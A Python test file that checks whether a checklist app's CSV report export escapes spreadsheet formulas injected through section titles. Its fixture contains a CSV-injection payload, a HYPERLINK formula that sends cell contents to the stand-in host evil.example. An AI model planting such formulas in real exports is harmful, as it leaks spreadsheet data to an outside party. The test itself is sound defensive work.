"""Report CSVs neutralise formulas that came in through a checklist's text."""

from __future__ import annotations

import csv
import io

import msgspec

from checklists import queries

from ..conftest import run
from .report_helpers import as_user, file_audit, publish

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def _formula_checklist(doc):
    first, *rest = doc.sections
    titled = msgspec.structs.replace(first, title={"en": FORMULA})
    minus = msgspec.structs.replace(rest[0], title={"en": "-2+3"})
    return msgspec.structs.replace(doc, slug="formulas", sections=[titled, minus, *rest[1:]])


def test_visit_report_csv_neutralises_a_formula_in_a_section_title(client, org):
    run(queries.import_checklist(_formula_checklist(org), by="test", publish=True))
    audit = file_audit(client, org, checklist="formulas")
    publish(audit)
    as_user(client, "ada")
    response = client.get(f"/reports/visits/{audit}/csv/sections")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names and "'-2+3" in names
    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row)
    assert float(rows[-1][-1]) > 0  # scores are still numbers
